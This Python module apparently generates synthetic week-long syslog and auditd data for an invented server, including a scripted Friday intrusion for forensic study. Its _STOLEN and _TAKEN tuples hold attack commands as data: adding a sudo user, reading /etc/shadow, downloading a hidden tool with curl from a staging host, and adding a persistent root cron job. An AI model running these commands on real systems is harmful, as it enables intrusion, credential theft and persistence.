"""What happened on the made server web01 in the made week: the story behind its two logs.

People log in at their habits from their networks, cron and systemd do their rounds, one kernel
update reboots the machine on Wednesday. On Friday an attacker guesses the password of the user
``deploy``, adds the user ``sysupd`` and becomes root through it. ``syslog`` tells the week,
``auditd`` the Thursday and Friday; both take times, process ids and session numbers from here.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass, replace
from datetime import datetime, timedelta

from samples.log import after, at, dice, moments, weighted

HOST = "web01"
GUESSER = "203.0.113.77"  # guesses passwords on Friday
STAGE = "198.51.100.23"  # serves the attacker's tools
BOOT = at(-9, "22:14:03")
REBOOT = at(2, "04:12:40.093117")
GUESSED = at(4, "14:26:41.318204")
GUESSED_WHY = "the attacker's session, opened with a guessed password"


@dataclass(frozen=True)
class Person:
    """A user of the server: where from, how often on a weekday, and what they type."""

    name: str
    uid: int
    key: str
    sources: dict[str, int]
    visits: tuple[int, int]
    hours: tuple[int, int]
    habits: tuple[str, ...]


@dataclass(frozen=True)
class Command:
    """One command of a session; ``root`` means through sudo."""

    time: datetime
    argv: tuple[str, ...]
    root: bool
    pid: int


@dataclass(frozen=True)
class Session:
    """One login over ssh; ``why`` is set where it is hostile."""

    person: Person
    source: str
    port: int
    method: str
    start: datetime
    end: datetime
    commands: tuple[Command, ...]
    tty: str
    pid: int
    number: int = 0
    why: str | None = None


@dataclass(frozen=True)
class CronRun:
    """One job that cron started; ``why`` is set where it is hostile."""

    time: datetime
    user: str
    command: str
    pid: int
    number: int = 0
    why: str | None = None


_OFFICE = "198.51.100.14"
_READ = (
    "ls -la", "df -h", "free -m", "uptime", "tail -n 50 /var/log/nginx/error.log",
    "less /var/log/syslog", "systemctl status nginx", "ss -tlnp", "top -b -n 1",
    "journalctl -u php8.3-fpm -n 100", "du -sh /var/www/shop", "grep -c checkout access.log",
)  # fmt: skip
_ADMIN = (
    "# apt update", "# apt list --upgradable", "# systemctl restart php8.3-fpm", "# nginx -t",
    "# systemctl reload nginx", "# vim /etc/nginx/sites-available/shop.conf",
    "# tail -f /var/log/auth.log", "# ufw status", "# du -xsh /var/lib/mysql", "# certbot renew",
    "# journalctl -p err -n 50",
)  # fmt: skip
_DEVELOP = (
    "git status", "git log --oneline -5", "php -v", "composer show", "php artisan queue:restart",
    "mysql -u shop_ro shop", "tail -f storage/logs/laravel.log", "vim config/cache.php",
    "# systemctl restart php8.3-fpm", "# journalctl -u php8.3-fpm -n 200",
)  # fmt: skip

PEOPLE = (
    Person("mira", 1001, "ED25519 SHA256:q3Tz0k8s1mWnJv5cYd7hB2xLr9pGfUeA4oKiNtRwZyM",
           {_OFFICE: 8, "198.51.100.201": 2}, (2, 5), (8, 18), _READ + _ADMIN),
    Person("jonas", 1002, "ED25519 SHA256:B8eVw2hQxT6yLmP0rUc4nKdS9aJfGz7iOb3XtYk1MvE",
           {_OFFICE: 6, "2001:db8:7a:12::5": 4}, (1, 3), (9, 20), _READ + _ADMIN),
    Person("petra", 1003, "RSA SHA256:uN5jRkC0wZ8bTgX3vQeHs6LyPd1aMf9oIiK7mYp2ExB",
           {_OFFICE: 7, "198.51.100.66": 3}, (2, 4), (8, 17), _READ + _DEVELOP),
    Person("lena", 1004, "ED25519 SHA256:c7XpL1yTqM4sWb9nVr0dKzE6jHf3GuA8oYi5RtJwQkN",
           {_OFFICE: 9, "198.51.100.93": 1}, (1, 2), (9, 16), ()),
    Person("deploy", 1010, "ED25519 SHA256:T0vKq9RmZs2LxN8wYc5uHbE1pJdG6fAi7oXt4WkBn3M",
           {"192.0.2.40": 1}, (2, 4), (9, 17),
           ("git pull --ff-only", "composer install --no-dev", "php artisan migrate --force",
            "php artisan config:cache", "# systemctl reload php8.3-fpm")),
)  # fmt: skip
BACKUP = Person("backup", 1011, "ED25519 SHA256:m4Yd8sXk2QvT7wLb0NrHc9ZpJ5eUgA1iFo6tKxRyB3E",
                {"192.0.2.50": 1}, (1, 1), (2, 3), ())  # fmt: skip
TOMAS = Person("tomas", 1005, "ED25519 SHA256:Jk3fWm7Zc1XyPq9sVt5uNbH0rLdE8gAi2oTx6RwKvM4",
               {_OFFICE: 1}, (0, 0), (9, 17), _READ)  # fmt: skip
SYSUPD = Person("sysupd", 1006, "", {GUESSER: 1}, (0, 0), (0, 0), ())

_JOBS = (  # minutes between runs, minute of the hour, user, command
    (30, 9, "root", "[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean"),
    (60, 17, "root", "cd / && run-parts --report /etc/cron.hourly"),
    (60, 5, "www-data", "php /var/www/shop/artisan schedule:run"),
)
_DAILY = (  # clock, user, command
    ("03:10:01", "root", "/usr/local/sbin/dump-shop-db"),
    ("06:25:01", "root", "test -x /usr/sbin/anacron || run-parts --report /etc/cron.daily"),
    ("07:45:01", "petra", "php /var/www/shop/artisan report:daily"),
)


class Pids:
    """Hands out process ids that grow with the time since boot."""

    def __init__(self) -> None:
        self._taken: set[tuple[bool, int]] = set()

    def at(self, time: datetime) -> int:
        """Returns a free process id for a process that starts at ``time``."""
        again = time >= REBOOT
        seconds = int((time - (REBOOT if again else BOOT)).total_seconds())
        pid = 1100 + seconds // 11
        while (again, pid) in self._taken:
            pid += 1
        self._taken.add((again, pid))
        return pid


def week(days: range, pids: Pids) -> tuple[list[Session], list[CronRun]]:
    """Returns the logins and cron runs of some days of the week, numbered in order of time."""
    sessions = [session for day in range(7) for session in _logins(day, pids)]
    sessions += _attack(pids)
    runs = [run for day in range(7) for run in _cron(day, pids)]
    everything: list[Session | CronRun] = sorted([*sessions, *runs], key=_moment)
    numbered: list[Session | CronRun] = []
    number = 2100
    for thing in everything:
        number = 1 if number > 2000 and _moment(thing) >= REBOOT else number + 1
        numbered.append(replace(thing, number=number))
    first, last = at(days.start, "00:00:00"), at(days.stop, "00:00:00")
    kept = [thing for thing in numbered if first <= _moment(thing) < last]
    return (
        [thing for thing in kept if isinstance(thing, Session)],
        [thing for thing in kept if isinstance(thing, CronRun)],
    )


def _moment(thing: Session | CronRun) -> datetime:
    return thing.start if isinstance(thing, Session) else thing.time


def _cron(day: int, pids: Pids) -> Iterator[CronRun]:
    rng = dice(f"cron {day}")
    for every, minute, user, command in _JOBS:
        for step in range(24 * 60 // every):
            time = at(day, "00:00:01") + timedelta(minutes=minute + step * every)
            time = after(time, rng, 0, 900)
            if not REBOOT - timedelta(minutes=2) < time < REBOOT:
                yield CronRun(time, user, command, pids.at(time))
    for clock, user, command in _DAILY:
        time = after(at(day, clock), rng, 0, 900)
        yield CronRun(time, user, command, pids.at(time))
    if day == 6:
        time = after(at(day, "03:30:01"), rng, 0, 900)
        yield CronRun(time, "root", "/usr/sbin/e2scrub_all_cron", pids.at(time))
    if day > 4:
        time = after(at(day, "03:33:01"), rng, 0, 900)
        why = "the job that the attacker put into root's crontab"
        yield CronRun(time, "root", "/usr/local/lib/.upd -q", pids.at(time), why=why)


def _logins(day: int, pids: Pids) -> Iterator[Session]:
    rng = dice(f"logins {day}")
    weekend = day > 4
    for person in PEOPLE:
        low, high = person.visits
        visits = rng.randrange(low, high + 1) if not weekend else 0
        if weekend and person.name == "mira":
            visits = 1
        for start in moments(rng, day, *person.hours, visits):
            source = weighted(rng, person.sources)
            if weekend:
                source = "198.51.100.201"
            if day == 2 and person.name == "jonas":
                source = "203.0.113.180"  # a train and a hotel: new, and harmless
            method = "password" if person.name == "lena" else "publickey"
            yield _session(rng, pids, person, start, source=source, method=method)
    start = after(at(day, "02:30:02"), rng, 0, 4000)
    yield _session(rng, pids, BACKUP, start, source="192.0.2.50", method="publickey")
    if day in {2, 3}:
        for start in moments(rng, day, 10, 16, 2):
            yield _session(rng, pids, TOMAS, start, source=_OFFICE, method="publickey")


def _session(
    rng: random.Random, pids: Pids, person: Person, start: datetime, *, source: str, method: str
) -> Session:
    pid = pids.at(start)
    commands = []
    time = after(start, rng, 900, 6000)
    typed = person.habits
    if person.name != "deploy":
        count = rng.randrange(3, 12) if typed else 0
        typed = tuple(rng.choice(typed) for _ in range(count))
    for text in typed:
        root = text.startswith("# ")
        argv = tuple(text.removeprefix("# ").split())
        commands.append(Command(time, argv, root, pids.at(time)))
        time = after(time, rng, 1500, 90_000)
    if not typed:
        time = after(time, rng, 20_000, 240_000)
    port = rng.randrange(32768, 61000)
    tty = f"pts/{rng.randrange(3)}"
    end = after(time, rng, 500, 60_000)
    return Session(person, source, port, method, start, end, tuple(commands), tty, pid)


_STOLEN = (  # seconds after the login, command
    (6, "id"), (11, "uname -a"), (19, "# -l"), (34, "cat /etc/passwd"), (52, "ls -la /home"),
    (96, "# useradd -m -G sudo -s /bin/bash sysupd"), (118, "# passwd sysupd"),
)  # fmt: skip
_TAKEN = (
    (8, "# /bin/bash"), (21, "whoami"), (33, "cat /etc/shadow"), (71, "ls -la /root/.ssh"),
    (124, f"curl -s -o /usr/local/lib/.upd http://{STAGE}/upd"),
    (131, "chmod 755 /usr/local/lib/.upd"), (180, "crontab -e"),
    (244, "tail -n 20 /var/log/auth.log"),
)  # fmt: skip


def _attack(pids: Pids) -> Iterator[Session]:
    deploy = next(person for person in PEOPLE if person.name == "deploy")
    rng = dice("attack")
    for person, start, lasts, steps in (
        (deploy, GUESSED, 190, _STOLEN),
        (SYSUPD, at(4, "14:34:02.640911"), 281, _TAKEN),
    ):
        pid = pids.at(start)
        commands = []
        for seconds, text in steps:
            time = after(start + timedelta(seconds=seconds), rng, 0, 900)
            argv = tuple(text.removeprefix("# ").split())
            commands.append(Command(time, argv, text.startswith("# "), pids.at(time)))
        end = after(start + timedelta(seconds=lasts), rng, 0, 900)
        port = rng.randrange(32768, 61000)
        yield Session(
            person, GUESSER, port, "password", start, end, tuple(commands), "pts/3", pid,
            why=GUESSED_WHY if person is deploy else "the attacker's session as the user he added",
        )  # fmt: skip


def guesses() -> list[tuple[datetime, str, int, bool]]:
    """Returns the attacker's failed logins: time, user name, port, whether the user exists."""
    rng = dice("guesses")
    names = ("root", "admin", "test", "ubuntu", "oracle", "git", "deploy", "deploy", "www-data")
    time = at(4, "14:18:07.204518")
    failed = []
    while time < GUESSED - timedelta(seconds=8):
        name = "deploy" if time > at(4, "14:24:00") else rng.choice(names)
        known = name in {"root", "deploy", "www-data"}
        failed.append((time, name, rng.randrange(32768, 61000), known))
        time = after(time, rng, 4000, 21_000)
    return failed
